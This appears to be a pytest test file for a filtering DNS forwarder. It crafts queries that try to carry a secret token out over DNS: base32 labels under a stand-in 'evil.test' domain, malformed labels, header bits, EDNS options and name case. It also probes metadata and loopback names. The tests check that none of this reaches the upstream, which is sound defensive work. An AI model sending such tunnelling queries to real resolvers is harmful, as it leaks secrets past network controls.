"""Attempts to carry data out through the name server: whatever is tried, the upstream sees canonical allowed names and nothing else."""

from __future__ import annotations

import base64
import importlib.util
import random
from pathlib import Path

import dns.edns
import dns.flags
import dns.message
import dns.rcode
import dns.rdatatype
import dns.rrset
import pytest

_spec = importlib.util.spec_from_file_location("dns_lab", Path(__file__).parents[1] / "unit" / "dns" / "lab.py")
assert _spec is not None and _spec.loader is not None
lab = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(lab)

SECRET = b"TOKEN-0123456789"
ENCODED = base64.b32encode(SECRET).decode().rstrip("=").lower()


def hidden() -> dict[str, bytes]:
    """Queries for allowed or denied names with the secret in a place that a careless forwarder passes on."""
    plain = dns.message.make_query("x.allowed.test", "A", id=int.from_bytes(SECRET[:2]))
    body = plain.to_wire()
    out = {
        "a name of another zone": dns.message.make_query(f"{ENCODED}.evil.test", "A").to_wire(),
        "a suffix that looks like the zone": dns.message.make_query(f"{ENCODED}.notallowed.test", "A").to_wire(),
        "a label with a dot in it": body[:12] + b"\x0e" + SECRET[:5] + b".allowed" + b"\x04test\0\0\1\0\1",
        "a label of octets": body[:12] + bytes((len(SECRET) + 1,)) + b"\xff" + SECRET + body[12:],
        "octets after the end": body + SECRET,
        "a second question": body[:5] + b"\2" + body[6:] + body[12:],
        "a pointer past the question": body[:12] + b"\x01x\xc0\x14\0\1\0\1" + b"\x04evil\x04test\0",
        "the Z bit": body[:3] + bytes((body[3] | 0x40,)) + body[4:],
        "the opcode": body[:2] + bytes((body[2] | 0x38,)) + body[3:],
        "the class": body[:-2] + SECRET[:2],
        "a response": body[:2] + bytes((body[2] | 0x80,)) + body[3:],
    }
    for section in ("answer", "authority", "additional"):
        query = dns.message.from_wire(body)
        getattr(query, section).append(dns.rrset.from_text("x.allowed.test.", 1, "IN", "TXT", SECRET.decode()))
        out[f"a record in the {section}"] = query.to_wire()
    for rtype in ("NULL", "CNAME", "MX", "SRV", "NAPTR", "DNSKEY", "ANY", "AXFR", "IXFR", "OPT", "TYPE65534"):
        out[f"type {rtype}"] = dns.message.make_query("x.allowed.test", dns.rdatatype.from_text(rtype)).to_wire()
    return out


@pytest.mark.parametrize("place", hidden())
async def test_nothing_hidden_in_a_query_makes_the_upstream_be_asked(place: str) -> None:
    async with lab.forwarding() as (served, fake):
        data = await served.send_raw(hidden()[place])
        assert fake.raw == []
        assert data is None or not dns.message.from_wire(data).answer
        event = served.log.events[0]
        assert event.verdict == "deny"
        assert event.code in {
            "dns.bad-query",
            "dns.opcode-refused",
            "dns.class-refused",
            "dns.type-refused",
            "dns.not-listed",
        }


async def test_what_is_legal_in_a_query_but_ours_to_set_does_not_pass() -> None:
    async with lab.forwarding() as (served, fake):
        rng = random.Random(7)
        for n in range(16):
            bits = "".join(
                c.upper() if rng.random() < 0.5 else c for c in f"n{n}.allowed.test"
            )  # 16 bits in the case of a name
            options = [dns.edns.GenericOption(code, SECRET) for code in (3, 10, 12, 26946, 65001)]
            query = dns.message.make_query(bits, "A", use_edns=0, options=options, want_dnssec=bool(n % 2))
            query.flags |= dns.flags.CD if n % 3 else dns.flags.AD
            assert dns.message.from_wire(await served.exchange(query.to_wire())).answer
        assert fake.asked == [f"n{n}.allowed.test" for n in range(16)]
        assert not any(SECRET in raw for raw in fake.raw)
        first = {(raw[2:12], raw[12 + len(f"n{n}.allowed.test") + 2 :]) for n, raw in enumerate(fake.raw)}
        assert len(first) == 1, "but for id and name every query is the same octets"


async def test_in_self_mode_a_tunnel_under_an_allowed_zone_reaches_nobody() -> None:
    async with lab.upstream() as fake, lab.serve(answer="self", upstream=f"127.0.0.1:{fake.port}") as served:
        for n in range(50):
            got = await served.ask(f"{ENCODED}{n}.allowed.test")
            assert got.answer
        assert fake.raw == []


async def test_forged_answers_are_not_believed() -> None:
    async with lab.forwarding() as (served, _):
        got = await served.ask("forged.allowed.test")
        assert [item.to_text() for rrset in got.answer for item in rrset] == [lab.PUBLIC]


@pytest.mark.parametrize(
    "name", ["localhost", "metadata.google.internal", "169.254.169.254", "127.1", "0x7f.1", "2130706433"]
)
async def test_names_of_the_machine_and_spelled_addresses_have_no_address(name: str) -> None:
    async with lab.forwarding({"allow": ["*"]}) as (served, fake):
        got = await served.ask(name)
        assert got.answer == []
        assert got.rcode() in (dns.rcode.NXDOMAIN, dns.rcode.REFUSED)
        assert fake.asked == []
        assert served.log.events[0].verdict == "deny"
